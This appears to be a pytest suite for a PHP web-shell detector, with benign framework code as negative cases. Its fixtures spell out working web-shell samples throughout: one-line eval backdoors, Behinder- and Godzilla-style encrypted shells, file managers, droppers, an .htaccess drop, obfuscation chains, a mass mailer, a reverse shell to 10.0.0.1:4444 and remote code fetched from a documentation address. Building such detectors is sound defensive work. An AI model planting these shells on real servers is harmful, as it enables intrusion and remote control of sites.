"""The PHP reader of the web-shell detector: each shape it must see through, with its evidence, and
the framework look-alikes it must leave alone. Samples are written here, in the shapes public
shells take; none is copied from a collection."""

from __future__ import annotations

import base64
import zlib

import pytest

from agent.imagegate import webshell
from agent.imagegate.webshell import THRESHOLD
from agent.vocab import Severity


def _scan(code: str | bytes, name: str = "x.php"):
    data = code.encode("latin-1") if isinstance(code, str) else code
    return webshell.scan(name, data)


def _best(code: str | bytes, name: str = "x.php"):
    hs = _scan(code, name)
    assert hs, f"no hit for {code!r:.200}"
    return max(hs, key=lambda h: h.confidence)


def _shell(code: str | bytes, *, source: str = "", sink: str = "", rule: str = "", family: str = ""):
    h = _best(code)
    assert h.confidence >= THRESHOLD, h
    if source:
        assert source in h.source, h
    if sink:
        assert sink in h.sink, h
    if rule:
        assert h.rule == rule, h
    if family:
        assert h.family == family, h
    assert h.snippet, h
    return h


def _clean(code: str | bytes, name: str = "x.php"):
    hs = _scan(code, name)
    assert not webshell.is_shell(hs), [h for h in hs if h.confidence >= THRESHOLD]


def _b64(s: str) -> str:
    return base64.b64encode(s.encode("latin-1")).decode()


def _deflate(s: str) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(s.encode("latin-1")) + c.flush()


# -- sources ------------------------------------------------------------------------------------
@pytest.mark.parametrize("src,label", [
    ("$_GET['c']", "$_GET['c']"),
    ("$_POST['c']", "$_POST['c']"),
    ("$_REQUEST['c']", "$_REQUEST['c']"),
    ("$_COOKIE['c']", "$_COOKIE['c']"),
    ("$_SERVER['HTTP_X_CMD']", "$_SERVER['HTTP_X_CMD']"),
    ("$_FILES['f']['name']", "$_FILES['f']"),
    ("$_ENV['c']", "$_ENV['c']"),
    ("$GLOBALS['_POST']['c']", "$_POST['c']"),
    ("${'_PO'.'ST'}['c']", "$_POST['c']"),
    ("file_get_contents('php://input')", "php://input"),
    ("getallheaders()['X-C']", "getallheaders()"),
    ("apache_request_headers()['X-C']", "apache_request_headers()"),
    ("$HTTP_RAW_POST_DATA", "$HTTP_RAW_POST_DATA"),
    ("$HTTP_POST_VARS['c']", "$HTTP_POST_VARS['c']"),
])
def test_each_source_reaching_system(src, label):
    h = _shell(f"<?php system({src});", source=label, sink="system", rule="php.request-to-exec")
    assert h.severity == Severity.CRITICAL


def test_server_fields_the_request_does_not_set_are_not_sources():
    _clean("<?php system('ls ' . $_SERVER['DOCUMENT_ROOT']);")


def test_taint_through_assignments_string_ops_and_arrays():
    _shell("<?php $a = $_POST['x']; $b = trim($a); $c = array('k' => $b); $d = $c['k'] . ' 2>&1'; passthru($d);",
           source="$_POST['x']", sink="passthru")


def test_taint_through_function_arguments_and_returns():
    code = """<?php
    function pick($r) { return $r['cmd']; }
    function run($c) { $out = shell_exec($c); return $out; }
    echo run(pick($_REQUEST));"""
    _shell(code, source="$_REQUEST", sink="shell_exec")


def test_extract_parse_str_and_foreach_of_sources():
    _shell("<?php extract($_POST); system($cmd);", source="$_POST", sink="system")
    _shell("<?php parse_str($_SERVER['QUERY_STRING'], $q); exec($q['c']);", source="QUERY_STRING", sink="exec")
    _shell("<?php foreach ($_GET as $k => $v) { $$k = $v; } popen($c, 'r');", source="$_GET", sink="popen")


# -- sinks --------------------------------------------------------------------------------------
@pytest.mark.parametrize("call,sink", [
    ("eval($x);", "eval"),
    ("assert($x);", "assert"),
    ("system($x);", "system"),
    ("exec($x, $o);", "exec"),
    ("passthru($x);", "passthru"),
    ("shell_exec($x);", "shell_exec"),
    ("echo `$x`;", "backticks"),
    ("popen($x, 'r');", "popen"),
    ("proc_open($x, array(), $p);", "proc_open"),
    ("pcntl_exec('/bin/sh', array('-c', $x));", "pcntl_exec"),
    ("$f = create_function('', $x); $f();", "create_function"),
    ("preg_replace('/.*/e', $x, '');", "preg_replace /e"),
    ("mb_ereg_replace('.*', $x, 'a', 'e');", "mb_ereg_replace /e"),
    ("call_user_func('system', $x);", "call_user_func(system)"),
    ("call_user_func_array('assert', array($x));", "call_user_func_array(assert)"),
    ("array_map('system', array($x));", "array_map(system)"),
    ("array_filter(array($x), 'assert');", "array_filter(assert)"),
    ("array_walk($arr, 'system'); $arr = array($x);", "array_walk(system)"),
    ("$a = array($x); usort($a, 'assert');", "usort(assert)"),
    ("$a = array($x, 1); uasort($a, 'assert');", "uasort(assert)"),
    ("register_shutdown_function('system', $x);", "register_shutdown_function(system)"),
    ("register_tick_function('assert', $x);", "register_tick_function(assert)"),
    ("$r = new ReflectionFunction('system'); $r->invoke($x);", "ReflectionFunction->invoke(system)"),
    ("$r = new ReflectionFunction('exec'); $r->invokeArgs(array($x));", "ReflectionFunction->invokeargs(exec)"),
])
def test_each_sink(call, sink):
    h = _shell(f"<?php $x = $_POST['p']; {call}", source="$_POST['p']")
    assert sink in h.sink, h


def test_include_of_request_data():
    h = _shell("<?php include $_GET['page'];", source="$_GET['page']", rule="php.request-include")
    assert h.sink == "include"
    _shell("<?php require_once($_POST['f']);", rule="php.request-include")


def test_include_with_a_fixed_directory_and_suffix_is_not_a_shell():
    # a local-file-inclusion bug, not a web shell
    _clean("<?php $p = $_GET['p']; include 'pages/' . $p . '.php';")


def test_variable_function_folded_to_a_sink_name():
    _shell("<?php $a = 'sys'; $b = $a . 'tem'; $b($_GET['c']);", sink="system", source="$_GET['c']")
    _shell("<?php $f = 'as'; $f .= 'sert'; $f($_POST['z']);", sink="assert")


def test_variable_function_named_by_the_request():
    h = _shell("<?php $_GET['f']($_GET['c']);", rule="php.request-function", source="$_GET['f']")
    assert h.severity == Severity.CRITICAL


def test_tainted_class_and_method_names():
    _shell("<?php $o = new $_GET['cls']();", rule="php.request-class")
    _shell("<?php $o = new Foo(); $o->{$_POST['m']}($_POST['a']);", rule="php.request-method")


def test_callback_named_by_the_request():
    _shell("<?php call_user_func($_REQUEST['f'], $_REQUEST['a']);", rule="php.request-function")


def test_ob_start_with_a_sink_callback():
    _shell("<?php ob_start('system'); echo $_GET['c']; ob_end_flush();", rule="php.callback-sink")


def test_closure_and_user_callback():
    _shell("<?php $run = function ($c) { return shell_exec($c); }; array_map($run, array($_POST['c']));",
           sink="shell_exec")
    _shell("<?php class K { function go($c) { eval($c); } } $k = new K(); "
           "call_user_func(array($k, 'go'), $_POST['x']);",
           sink="eval")


def test_invoke_class_as_a_callback():
    _shell("<?php class C { function __invoke($p) { eval($p . ''); } } call_user_func(new C(), $_POST['p']);",
           sink="eval")


# -- decoding -----------------------------------------------------------------------------------
PAYLOAD = "system($_POST['cmd']);"
_ROT = PAYLOAD.translate(str.maketrans("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ",
                                       "nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM"))
_REV = PAYLOAD[::-1].replace("$", "\\$")


def _dq(text: str) -> str:
    """text as a PHP double-quoted literal."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$").replace("\n", "\\n") + '"'


_URL = "".join(f"%{b:02x}" for b in PAYLOAD.encode())
_UU = __import__("binascii").b2a_uu(PAYLOAD.encode()).decode()


@pytest.mark.parametrize("expr", [
    f"base64_decode('{_b64(PAYLOAD)}')",
    f"str_rot13({_dq(_ROT)})",
    f'strrev("{_REV}")',
    f"hex2bin('{PAYLOAD.encode().hex()}')",
    f"pack('H*', '{PAYLOAD.encode().hex()}')",
    f"urldecode('{_URL}')",
    f"rawurldecode('{_URL}')",
    f"gzinflate(base64_decode('{base64.b64encode(_deflate(PAYLOAD)).decode()}'))",
    f"gzuncompress(base64_decode('{base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()}'))",
    f"gzdecode(base64_decode('{base64.b64encode(__import__('gzip').compress(PAYLOAD.encode())).decode()}'))",
    f"convert_uudecode({_dq(_UU)})",
    "str_replace('#', '', 'sy#st#em(#$_POST[\\'cmd\\']);')",
    "implode('', array('sys', 'tem(', '$_POST', \"['cmd']);\"))",
    "join('', array_reverse(array(\"['cmd']);\", '$_POST', 'system(')))",
    "substr('xxxsystem($_POST[\\'cmd\\']);yyy', 3, -3)",
    "strtolower('SYSTEM') . '($_POST[\\'cmd\\']);'",
    "ucfirst('system($_POST[\\'cmd\\']);')",
    "\"\\x73\\171\\u{73}tem(\\$_POST['cmd']);\"",
    "chr(115) . chr(0x79) . 'stem($_POST[\"cmd\"]);'",
])
def test_each_decoder_into_eval(expr):
    h = _shell(f"<?php eval({expr});", sink="system", source="$_POST['cmd']")
    assert "system(" in h.snippet


def test_nested_chains_three_and_more_deep():
    layer = PAYLOAD
    for _ in range(4):
        layer = f"eval(gzinflate(base64_decode('{base64.b64encode(_deflate(layer)).decode()}')));"
    h = _shell("<?php " + layer, sink="system", source="$_POST['cmd']")
    assert h.detail.count("gzinflate") >= 3, h.detail


def test_packed_code_without_a_visible_flow_is_still_flagged():
    body = "$x = 1; " * 400 + "echo 'hidden';"
    h = _shell(f"<?php eval(gzinflate(base64_decode('{base64.b64encode(_deflate(body)).decode()}')));",
               rule="php.obfuscated-eval")
    assert "gzinflate" in h.detail


def test_create_function_body_is_read_as_code():
    h = _shell("<?php $f = create_function('$x', 'ev'.'al(\"?>\".base64_decode($x));'); "
               f"$f('{_b64('<?php system($_GET[1]); ?>')}');", sink="system")
    assert "$_GET" in h.source


def test_string_xor_not_and_increment_obfuscation():
    xa = "".join(chr(ord(a) ^ ord(b)) for a, b in zip("assert", "@@@@@@", strict=False))
    _shell(f"<?php $f = '{xa}' ^ '@@@@@@'; $f($_POST['x']);", sink="assert")
    nots = "".join("\\x%02x" % (~ord(c) & 0xFF) for c in "system")
    _shell(f"<?php $f = ~\"{nots}\"; $f($_GET['c']);", sink="system")
    _shell("<?php $_ = []; $_ = @\"$_\"; $_ = $_['!' == '@']; $a = $_; $a++; $a++; $a++; $a++; "
           "$s = ++$a; $f = 'ass' . 'ert'; $f($_POST[$s]);", sink="assert")


def test_bareword_constants_read_as_their_names():
    _shell("<?php $f = sys . tem; $f($_GET['c']);", sink="system")


def test_array_of_strings_and_indexing():
    _shell("<?php $p = array('ex', 'ec', 'sh', 'ell_'); $f = $p[2] . $p[3] . $p[0] . $p[1]; echo $f($_POST['c']);",
           sink="shell_exec")


def test_self_reading_loader():
    code = ("<?php $s = file_get_contents(__FILE__); $p = explode('__' . 'DATA__', $s); eval(base64_decode($p[1])); "
            "__halt_compiler();__DATA__" + _b64("system($_REQUEST['q']);"))
    _shell(code, sink="system")


# -- families -----------------------------------------------------------------------------------
def test_china_chopper_one_liner():
    h = _shell("<?php @eval($_POST['pass']);?>", family="china-chopper", sink="eval")
    assert h.severity == Severity.CRITICAL
    _shell("<?php $k = chr(97) . chr(115) . 'sert'; @$k(base64_decode($_POST['z0']));", sink="assert")


BEHINDER_LIKE = """<?php
@error_reporting(0);
session_start();
$key = "0123456789abcdef";
$_SESSION['k'] = $key;
$post = file_get_contents("php://input");
if (!extension_loaded('openssl')) {
    $t = "base64_" . "decode";
    $post = $t($post . "");
    for ($i = 0; $i < strlen($post); $i++) { $post[$i] = $post[$i] ^ $key[$i + 1 & 15]; }
} else {
    $post = openssl_decrypt($post, "AES128", $key);
}
$arr = explode('|', $post);
$func = $arr[0];
$params = $arr[1];
class C { public function __invoke($p) { eval($p . ""); } }
@call_user_func(new C(), $params);
"""


def test_behinder_shape():
    h = _shell(BEHINDER_LIKE, family="behinder", sink="eval", source="php://input")
    assert h.severity == Severity.CRITICAL


GODZILLA_LIKE = """<?php
@session_start();
@set_time_limit(0);
function encode($D, $K) {
    for ($i = 0; $i < strlen($D); $i++) { $c = $K[$i + 1 & 15]; $D[$i] = $D[$i] ^ $c; }
    return $D;
}
$pass = 'key'; $payloadName = 'payload'; $key = 'fedcba9876543210';
if (isset($_POST[$pass])) {
    $data = encode(base64_decode($_POST[$pass]), $key);
    if (isset($_SESSION[$payloadName])) {
        $payload = encode($_SESSION[$payloadName], $key);
        eval($payload);
        echo base64_encode(encode(@run($data), $key));
    } else {
        $_SESSION[$payloadName] = $data;
    }
}
"""


def test_godzilla_shape():
    h = _shell(GODZILLA_LIKE, family="godzilla", sink="eval")
    assert "$_POST" in h.source or "$_SESSION" in h.source or h.source


FILE_MANAGER = """<?php
$d = isset($_GET['d']) ? $_GET['d'] : getcwd();
echo php_uname(); echo disk_free_space($d);
$u = posix_getpwuid(fileowner($d));
foreach (scandir($d) as $f) { echo "<a href='?d=$d/$f'>$f</a> " . substr(sprintf('%o', fileperms("$d/$f")), -4); }
if (isset($_POST['del'])) unlink($_POST['del']);
if (isset($_POST['from'])) rename($_POST['from'], $_POST['to']);
if (isset($_POST['mode'])) chmod($_POST['file'], octdec($_POST['mode']));
if (isset($_POST['save'])) file_put_contents($_POST['save'], $_POST['text']);
if (isset($_FILES['up'])) move_uploaded_file($_FILES['up']['tmp_name'], $d . '/' . $_FILES['up']['name']);
"""


def test_file_manager_without_exec_is_a_shell():
    hs = _scan(FILE_MANAGER)
    fm = [h for h in hs if h.rule == "php.file-manager"]
    assert fm and fm[0].confidence >= THRESHOLD and fm[0].family == "file-manager", hs
    assert fm[0].severity == Severity.HIGH
    assert "unlink" in fm[0].sink and "rename" in fm[0].sink


def test_c99_style_manager_with_packed_payload():
    inner = FILE_MANAGER + "\nif (isset($_POST['c'])) { echo '<pre>' . shell_exec($_POST['c']) . '</pre>'; }"
    code = f"<?php eval(gzinflate(base64_decode('{base64.b64encode(_deflate('?>' + inner)).decode()}')));"
    hs = _scan(code)
    assert any(h.rule == "php.request-to-exec" and h.sink == "shell_exec" for h in hs), hs
    assert any(h.rule == "php.file-manager" and h.confidence >= THRESHOLD for h in hs), hs


def test_uploader():
    h = _shell("<?php if ($_FILES) { move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); echo 'ok'; }",
               rule="php.uploader", source="$_FILES['f']")
    assert h.severity == Severity.HIGH


def test_dropper_writes_request_data_into_a_script():
    _shell("<?php file_put_contents('cache.php', $_POST['body']);", rule="php.request-file-write")
    _shell("<?php $h = fopen('x.php', 'w'); fwrite($h, base64_decode($_POST['b'])); fclose($h);",
           rule="php.request-file-write")


def test_dropper_writes_a_constant_shell():
    payload = _b64("<?php @eval($_POST['k']); ?>")
    h = _shell(f"<?php file_put_contents('/var/www/html/.cache.php', base64_decode('{payload}'));",
               rule="php.dropper")
    assert "eval" in h.snippet


def test_reverse_shell():
    _shell("<?php $s = fsockopen('10.0.0.1', 4444); "
           "$p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $x);",
           family="reverse-shell")
    _shell("<?php $s = fsockopen('10.0.0.1', 4444); while ($c = fgets($s)) { fwrite($s, shell_exec($c)); }",
           rule="php.socket-to-exec")


def test_remote_code():
    _shell("<?php eval(file_get_contents('http://203.0.113.9/x.txt'));", sink="eval", source="remote")


def test_evidence_is_decoded_and_clipped():
    inner = _b64('$c = $_POST["q"]; system($c . " " . str_repeat("a", 900));')
    code = f"<?php eval(base64_decode('{inner}'));"
    h = _best(code)
    assert h.sink == "system" and h.source == "$_POST['q']"
    assert len(h.snippet) <= 240
    assert "base64_decode" in h.detail


# -- benign look-alikes -------------------------------------------------------------------------
WP_UPLOAD = """<?php
if ( ! defined( 'ABSPATH' ) ) { exit; }
function myplugin_handle_upload() {
    if ( ! current_user_can( 'upload_files' ) ) { wp_die( __( 'Not allowed' ) ); }
    check_admin_referer( 'myplugin-upload' );
    if ( ! wp_verify_nonce( $_POST['_wpnonce'], 'myplugin-upload' ) ) { return; }
    $name = sanitize_file_name( $_FILES['import']['name'] );
    $ext = pathinfo( $name, PATHINFO_EXTENSION );
    if ( ! in_array( $ext, array( 'csv', 'txt' ), true ) ) { return; }
    $dest = wp_upload_dir()['basedir'] . '/' . $name;
    move_uploaded_file( $_FILES['import']['tmp_name'], $dest );
    unlink( $dest . '.old' );
}
add_action( 'admin_post_myplugin_upload', 'myplugin_handle_upload' );
"""


def test_wordpress_style_admin_upload():
    _clean(WP_UPLOAD)


def test_template_engine_call_user_func_with_constants():
    _clean("""<?php
    class View {
        private $helpers = array('upper' => 'strtoupper', 'esc' => 'htmlspecialchars');
        public function helper($name, $value) { return call_user_func($this->helpers[$name], $value); }
        public function render($tpl, $vars) {
            extract($vars); ob_start(); include __DIR__ . '/tpl/' . $tpl . '.php'; return ob_get_clean();
        }
    }
    echo (new View())->helper('esc', $_GET['q']);""")


def test_base64_of_a_constant_image():
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4).decode()
    _clean(f"<?php header('Content-Type: image/png'); echo base64_decode('{png}');")


def test_cli_script_with_constant_exec():
    _clean("<?php exec('git rev-parse HEAD', $out, $rc); system('php artisan migrate --force'); echo `date`;")


def test_shell_exec_of_escaped_config_values():
    _clean("""<?php
    $cfg = parse_ini_file('/etc/app/convert.ini');
    $src = escapeshellarg($cfg['source']);
    $dst = escapeshellarg($_POST['name']);
    echo shell_exec("convert $src -resize 50% $dst");""")


def test_framework_router_with_callbacks():
    _clean("""<?php
    namespace App\\Http;
    use App\\Controllers\\HomeController;
    class Router {
        private $routes = [];
        public function get($path, $handler) { $this->routes['GET'][$path] = $handler; }
        public function dispatch($method, $uri) {
            $handler = $this->routes[$method][$uri] ?? null;
            if (is_callable($handler)) { return call_user_func_array($handler, [$uri]); }
            [$class, $action] = explode('@', $handler);
            return (new $class())->$action();
        }
    }
    $r = new Router();
    $r->get('/', 'App\\Controllers\\HomeController@index');
    echo $r->dispatch('GET', '/');""")


def test_plain_html_and_constant_eval():
    _clean("<html><body><?php echo htmlspecialchars($_GET['q']); ?></body></html>")
    _clean("<?php $v = '1.0'; eval('$x = 2;'); echo $x;")


# -- more callback and object shapes --------------------------------------------------------------
def test_array_walk_builds_the_name_from_key_and_value():
    _shell("<?php function cb($v, $k) { $f = $k . $v; $f($_POST['x']); } $a = array('ass' => 'ert'); "
           "array_walk($a, 'cb');", sink="assert")


def test_output_buffer_callback_gets_the_echoed_request():
    _shell("<?php $code = ''; function grab($buf, $phase) { global $code; $code = $buf; } ob_start('grab'); "
           "echo $_REQUEST['p']; ob_end_flush(); assert($code);", sink="assert")


def test_unserialize_runs_magic_methods_with_request_properties():
    _shell("<?php class Job { public $cmd = 'true'; function __destruct() { system($this->cmd); } } "
           "unserialize($_COOKIE['job']);", sink="system", source="$_COOKIE['job']")


def test_sqlite_user_function_named_by_the_request():
    _shell("<?php $db = new SQLite3(':memory:'); $db->createFunction('f', $_REQUEST['e']); "
           "$db->query(\"SELECT f('\" . $_REQUEST['a'] . \"')\");", rule="php.request-function")


def test_trait_method_reached_through_the_class():
    _shell("<?php trait T { function run($f, $a) { $f($a); } } class A { use T; } $o = new A(); "
           "$o->run('sys' . 'tem', $_GET['c']);", sink="system")


def test_script_language_php_tag():
    _shell('<script language="php">@array_map("ass" . "ert", array($_POST["k"]));</script>', sink="assert")


def test_remote_script_download_and_htaccess_drop():
    _shell("<?php copy('http://198.51.100.7/x.txt', 'wp-conf.php');", rule="php.remote-drop")
    _shell("<?php file_put_contents('.htaccess', 'AddType application/x-httpd-php .jpg');", rule="php.htaccess-drop")


def test_register_globals_era_variables_are_a_weak_source():
    hs = _scan("<?php if ($cmd) { system($cmd); }")
    assert any(h.source.startswith("$cmd") for h in hs) and not webshell.is_shell(hs)


def test_request_data_written_then_included():
    h = _shell("<?php file_put_contents('cache.txt', $_GET['c'], FILE_APPEND); require 'cache.txt';",
               rule="php.request-include")
    assert h.sink == "include" and "cache.txt" in h.snippet


def test_remote_file_inclusion_prefix():
    _shell("<?php include($_REQUEST['base'] . '/errors.php');", rule="php.request-include")


def test_range_and_chr_build_a_name():
    _shell("<?php $r = range(0, 200); $f = chr($r[97]) . chr($r[115]) . chr($r[115]) . 'ert'; $f($_POST['k']);",
           sink="assert")


def test_loop_over_superglobal_names():
    _shell("<?php foreach (array('_POST', '_GET') as $src) { foreach ($$src as $k => $v) { $$k = $v; } } "
           "system($cmd);", sink="system")


def test_file_write_endpoint_with_request_path_and_body():
    _shell("<?php $f = dirname(__FILE__) . $_POST['p']; $b = ''; $c = $_POST['b']; "
           "for ($i = 0; $i < strlen($c); $i += 2) { $b .= urldecode('%' . substr($c, $i, 2)); } "
           "fwrite(fopen($f, 'w'), $b);", rule="php.request-file-write")


def test_function_that_evals_its_parameter():
    h = _shell("<?php function k($a, $b) { if ($a == 'x') { return eval($b); } }", rule="php.eval-wrapper")
    assert "parameter $b" in h.source


def test_eval_wrapper_inside_a_library_is_not_a_shell():
    funcs = "".join(f"function helper{i}($x) {{ return strtoupper($x); }}\n" for i in range(10))
    _clean("<?php " + funcs + "function run_snippet($code) { return eval($code); }")


def test_small_directory_lister_of_request_paths():
    _shell("<?php $d = $_GET['dir'] ? $_GET['dir'] : '/'; $h = opendir($d); "
           "while ($f = readdir($h)) { echo \"<a href='?dir=$d/$f'>$f</a><br>\"; }", rule="php.file-manager")


def test_mass_mailer_and_contact_form():
    h = _shell("<?php foreach (explode(\"\\n\", $_POST['list']) as $to) { mail($to, $_POST['s'], $_POST['body']); }",
               rule="php.mailer", family="mailer")
    assert h.severity == Severity.MEDIUM
    _clean("<?php mail('owner@example.org', 'Contact: ' . $_POST['subject'], $_POST['message']);")
